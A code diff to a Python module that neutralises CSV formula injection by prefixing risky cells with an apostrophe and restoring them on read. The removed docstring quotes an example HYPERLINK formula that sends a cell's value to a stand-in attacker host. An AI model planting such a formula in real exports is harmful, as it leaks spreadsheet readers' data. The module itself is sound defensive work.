@@ -1,36 +1,34 @@
-"""CSV files meant to be opened in a spreadsheet: UTF-8 that Excel recognises, and no cell that runs.
+"""Cells that are safe to open in a spreadsheet, and back (CSV "formula injection").
 
-A spreadsheet reads a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
-before one) as a formula: a name like ``=HYPERLINK("http://evil.test?"&A2, "click")`` typed into a
-profile would run on the reader's machine. Such cells are written with a leading apostrophe, which
-spreadsheets show as plain text (OWASP's advice for CSV injection).
+Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
+or carriage return before one) as a formula: ``=HYPERLINK(...)`` typed into a profile would run on the
+organiser's laptop. Such a cell is written with a leading apostrophe, which spreadsheets take as
+"this is text" and do not show (OWASP's advice). A cell that already starts with an apostrophe gets
+another one, so reading strips exactly one and every value comes back as it was.
 """
 
 from __future__ import annotations
 
-import csv
-import io
-from collections.abc import Iterable, Sequence
-
-_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
-# Excel opens a UTF-8 file as UTF-8 only with a byte order mark; other readers skip it.
-BOM = "\ufeff"
+# The full-width forms too: some spreadsheets read them as the ASCII operators.
+FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+TEXT_MARK = "'"
 
 
-def safe_cell(value: object) -> str:
-    """``value`` as text a spreadsheet shows as it is, never evaluates."""
-    text = "" if value is None else str(value)
-    if text.lstrip(" ").startswith(_FORMULA_STARTS):
-        return "'" + text
-    return text
+def looks_like_formula(cell: str) -> bool:
+    """Whether a spreadsheet could take ``cell`` for a formula (leading spaces are no protection)."""
+    if cell[:1] in FORMULA_STARTS:
+        return True
+    stripped = cell.lstrip(" \u00a0")
+    return bool(stripped) and stripped[0] in FORMULA_STARTS
 
 
-def spreadsheet_csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
-    """A CSV document (RFC 4180: commas, CRLF) with a BOM, every cell passed through :func:`safe_cell`."""
-    stream = io.StringIO()
-    stream.write(BOM)
-    writer = csv.writer(stream, lineterminator="\r\n")
-    writer.writerow([safe_cell(name) for name in header])
-    for row in rows:
-        writer.writerow([safe_cell(value) for value in row])
-    return stream.getvalue()
+def neutralise(cell: str) -> str:
+    """``cell`` as it is safe to write into a CSV file meant for spreadsheets."""
+    if cell.startswith(TEXT_MARK) or looks_like_formula(cell):
+        return TEXT_MARK + cell
+    return cell
+
+
+def restore(cell: str) -> str:
+    """The value :func:`neutralise` wrote ``cell`` for (a spreadsheet's text mark is dropped)."""
+    return cell[1:] if cell.startswith(TEXT_MARK) else cell
